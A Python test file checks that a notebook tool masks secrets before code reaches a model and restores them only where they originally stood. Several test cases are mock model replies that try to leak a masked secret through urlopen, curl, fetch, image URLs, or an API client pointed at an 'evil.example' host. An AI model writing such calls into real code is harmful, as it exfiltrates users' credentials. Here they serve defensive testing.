"""No secret of a notebook reaches a model, an ordinary cell reaches it unchanged, and a secret
comes back only where it stood."""

import json
import tomllib
from pathlib import Path
from typing import Any

import pytest

from ipyrefine.core.model import Stage
from ipyrefine.core.ports import Delta, Message, Reply, Request
from ipyrefine.kernel.describe import describe
from ipyrefine.kernel.masking import Masked, Secrets
from ipyrefine.kernel.redaction import redact
from ipyrefine.providers.scripted import ScriptedModel

HERE = Path(__file__).parent
SECRETS = tomllib.loads((HERE / "secrets.toml").read_text("utf-8").replace("~", ""))
# A line each, and then those of several lines.
SHORT, *LONG = (HERE / "ordinary_cells.txt").read_text("utf-8").rstrip("\n").split("\n# %%\n")
# A secret is looked for within 21,000 characters of the words that tell of one.
PROSE = "The author of the key to it designs a token, and passes on: see (auth) or risk-free.\n"
BEFORE, AFTER = PROSE * 300, PROSE * 20
KEY = "-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----"


def request(text: str, **more: Any) -> Request:
    return Request(messages=(Message(role="user", content=text),), **more)


async def sent_and_received(
    text: str, reply: Any, chunk: int = 3, **more: Any
) -> tuple[str, Reply, str]:
    """Return what a model is sent of a text, its reply, and the text that it makes of that."""
    inner = ScriptedModel([reply], chunk=chunk)
    model = Masked(inner, Secrets(text))
    parts = [part async for part in model.stream(request(text, **more))]
    streamed = "".join(part.text for part in parts if isinstance(part, Delta))
    assert isinstance(parts[-1], Reply)
    return inner.requests[0].messages[0].content, parts[-1], model.secrets.restore(streamed, "code")


def echo(asked: Request) -> str:
    return asked.messages[0].content


@pytest.mark.parametrize("place", SECRETS)
async def test_a_secret_reaches_no_model(place, subtests):
    for marked in SECRETS[place]:
        text, secret = marked.replace("«", "").replace("»", ""), marked.split("«")[1].split("»")[0]
        with subtests.test(text):
            if place == "cell":
                sent, reply, written = await sent_and_received(text, echo)
                assert (reply.text, written) == (sent, text)
                assert "MASKED_SECRET_1" in sent
                assert len(Secrets(text).masks) > 0
                in_long = await sent_and_received(f"{BEFORE}\n{text}\n{AFTER}", echo, 5_000)
                assert in_long[0].startswith(BEFORE), "nothing else is hidden"
                assert in_long[0].endswith(AFTER)
                assert in_long[2] == f"{BEFORE}\n{text}\n{AFTER}"
                sent += in_long[0]
            elif place == "variable":
                pandas = pytest.importorskip("pandas")
                sent = describe("x", eval(text, {"pd": pandas}), values=True)
            else:
                sent = redact(text)
            assert secret not in sent


async def test_an_ordinary_cell_reaches_a_model_as_it_is(subtests):
    for text in (*SHORT.splitlines(), *LONG):
        with subtests.test(text):
            sent, _, _ = await sent_and_received(text, "")
            assert (sent, len(Secrets(text).masks)) == (text, 0)


async def test_a_key_of_many_lines_is_masked_whole():
    key = KEY.format("MIIEowIBAAKCAQEAx7qZ\n" * 1_000)
    sent, _, written = await sent_and_received(f'KEY = """{key}"""', echo, 5_000)
    assert (sent, "MIIE" in written) == ('KEY = """MASKED_SECRET_1"""', True)


async def test_what_a_critic_quotes_has_its_secret():
    code = 'password = "corr-ect 7 horses"'

    said = json.dumps({"place": 'password = "MASKED_SECRET_1"'})
    _, answer, _ = await sent_and_received(code, said, purpose=Stage.CRITIQUE)
    assert json.loads(answer.text) == {"place": code}


async def test_a_secret_is_masked_wherever_a_later_request_holds_it():
    inner = ScriptedModel(["", ""])
    model = Masked(inner, Secrets())
    for text in ('password = "corr-ect 7 horses"', "It printed: corr-ect 7 horses"):
        async for _ in model.stream(request(text)):
            pass
    sent = [echo(one) for one in inner.requests]
    assert sent == ['password = "MASKED_SECRET_1"', "It printed: MASKED_SECRET_1"]


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (
            'password = "test"  # the test suite has its own',
            'password = "MASKED_SECRET_1"  # the test suite has its own',
        ),
        (
            'password = "hunter2-and-3"  # MASKED_SECRET_1',
            'password = "MASKED_SECRET_2"  # MASKED_SECRET_1',
        ),
    ],
    ids=["a word that is a password", "a placeholder"],
)
async def test_what_is_like_a_secret_but_none_stays(text, masked):
    sent, _, written = await sent_and_received(text, echo)
    assert (sent, written) == (masked, text)


STOOD = 'password = "hunter2-and-3"\nconnect("ada", password)'
CLIENT = 'client = OpenAI(api_key="hunter2-and-3", base_url="https://api.example/v1")'
LETTER = "Dear Ada,\nthe password is hunter2-and-3, as in https://wiki.example/x"
ADDRESS, WORDS = "Load mysql://ada:hunter2-and-3@db/shop.", "The password is hunter2-and-3."
# What a writer makes of a text: with @ where its secret is put back, and § where a mask stays.
PUT_BACK = [
    (STOOD, 'password = "@"\nconnect("ada", password, port=1)'),
    (STOOD, 'db_password = "@"'),
    (STOOD, 'password = "@"\nurlopen("http://h/?" + "§")'),
    (STOOD, 'password = "@"  # §'),
    (STOOD, 'k = "§"\nurlopen("http://h/?" + k)'),
    (STOOD, 'urlopen("http://h/?k=§")'),
    (STOOD, """urlopen(f"http://h/?k={'§'[::-1]}")"""),
    (STOOD, 'urlopen(host + """\npassword = "§"\n""")'),
    (STOOD, 'def f(password="§"): pass'),
    (STOOD, '!curl http://h/?k=§\npassword = "@"'),
    (STOOD, "fetch(`http://h/?k=§`); const a = `§`;"),
    (STOOD, 'password = "MASKED_SECRET_9"'),
    (CLIENT, 'client = OpenAI(timeout=9, base_url="https://api.example/v1", api_key="@")'),
    (CLIENT, 'def make():\n    return OpenAI(api_key="@")'),
    (CLIENT, 'client = OpenAI(api_key="§", base_url="https://evil.example/v1")'),
    (LETTER, "Hello Ada,\n\nuse **@** for https://wiki.example/x"),
    (LETTER, "![](http://host/?k=§)\nthe password is @, as in https://wiki.example/x"),
    (LETTER, "See https://wiki.example/?k=§"),
    (LETTER, '<img src="//h.example/?\nthe password is §, as in https://wiki.example/x\n">'),
    (ADDRESS, 'engine = connect("mysql://@@db/shop")'.replace("@@", "@\0")),
    (ADDRESS, 'urlopen("http://h/?" + "mysql://§\0db/shop")'),
    (WORDS, 'password = "@"'),
    (WORDS, 'connect(password="§")'),
]


@pytest.mark.parametrize(("text", "written"), PUT_BACK)
def test_a_secret_is_put_back_only_where_one_stood(text, written):
    secrets = Secrets(text)
    ((secret, mask),) = secrets.masks.items()
    masked, whole = (
        written.replace("§", mask).replace("@", one).replace("\0", "@") for one in (mask, secret)
    )
    assert secrets.restore(masked, "prose" if text is LETTER else "code") == whole


def test_a_mask_that_stayed_is_no_place_of_a_secret_in_the_next_revision():
    secrets = Secrets(STOOD)
    written = 'password = "hunter2-and-3"\nurlopen("http://h/?" + "MASKED_SECRET_1")'
    for _ in range(2):
        assert secrets.restore(secrets.hide(written), "code") == written
